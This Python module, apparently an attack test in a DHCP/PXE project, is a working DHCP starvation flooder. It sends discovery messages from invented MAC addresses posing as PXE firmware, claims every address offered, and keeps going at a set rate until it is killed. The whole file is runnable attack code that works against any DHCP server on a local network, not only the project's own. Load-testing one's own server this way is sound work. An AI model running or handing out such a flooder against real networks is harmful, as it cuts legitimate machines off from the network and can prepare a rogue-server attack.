"""MACs that nobody has ask for addresses and take them, until killed: ``python -m
tests.attack.dhcp_flood``.

Broadcasts from the interface named; prints a line when the first 1,000 have asked.
"""

from __future__ import annotations

import argparse
import itertools
import socket
import time
from contextlib import suppress

from cod.wire import dhcp

OPTIONS = {60: b"PXEClient:Arch:00000:UNDI:002001", 93: b"\0\0", 55: bytes([1, 3, 6, 66, 67])}
FIRST = 1000


def message(kind: int, number: int, more: dict[int, bytes]) -> bytes:
    """Return a message of firmware on a machine with an invented MAC; replies are to be
    broadcast."""
    chaddr = b"\x66" + number.to_bytes(5, "big") + bytes(10)
    return dhcp.encode(
        dhcp.Packet(
            1,
            1,
            6,
            0,
            number,
            0,
            0x8000,
            bytes(4),
            bytes(4),
            bytes(4),
            bytes(4),
            chaddr,
            bytes(64),
            bytes(128),
            {53: bytes([kind])} | OPTIONS | more,
        )
    )


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("interface")
    parser.add_argument("--rate", type=float, default=200.0, help="a second")
    options = parser.parse_args()
    wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, options.interface.encode())
    wire.bind(("", dhcp.CLIENT_PORT))
    wire.setblocking(False)
    everybody, start = ("255.255.255.255", dhcp.SERVER_PORT), time.monotonic()
    for number in itertools.count(1):
        wire.sendto(message(1, number, {}), everybody)
        with suppress(BlockingIOError, dhcp.DecodeError):
            while True:
                offer = dhcp.decode(wire.recv(2048))
                if offer.options[53] == b"\2" and offer.chaddr[0] == 0x66:
                    taken = {50: offer.yiaddr, 54: offer.options[54]}
                    wire.sendto(message(3, offer.xid, taken), everybody)
        if number == FIRST:
            print("flooded", flush=True)
        # the pace of the load: `rate` messages a second
        time.sleep(max(0.0, start + number / options.rate - time.monotonic()))


if __name__ == "__main__":
    main()
